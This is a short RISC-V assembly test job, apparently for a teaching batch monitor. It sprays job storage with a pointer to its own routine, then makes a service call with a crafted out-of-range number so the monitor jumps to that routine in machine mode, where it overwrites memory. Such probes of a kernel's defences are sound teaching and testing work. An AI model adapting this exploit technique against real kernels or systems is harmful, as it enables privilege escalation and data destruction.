# NUMBER tries a service number that makes the monitor find its routine in the job's own storage.
# As a signed number it is small, and what is lost when it becomes an offset leads up to there. Where
# the monitor's table is need not be known exactly, for nearly all of storage holds the address.
        .include "../../batch/interface.s"

        .equ    MIDDLE, JOB_BASE + JOB_SIZE / 2
        .equ    TABLE, 0x80005000       # about

        .text
        .globl  _start
_start: la      t0, end
        li      t1, JOB_END
        la      t2, prize
1:      sw      t2, 0(t0)
        addi    t0, t0, 4
        bltu    t0, t1, 1b
        li      a7, (MIDDLE - TABLE) / 4 + 0xc0000000
        ecall
again:  j       again

prize:  li      t0, 0x80000000          # in M-mode, if this works
        sw      zero, 0(t0)
        j       prize
        .align  2
end:
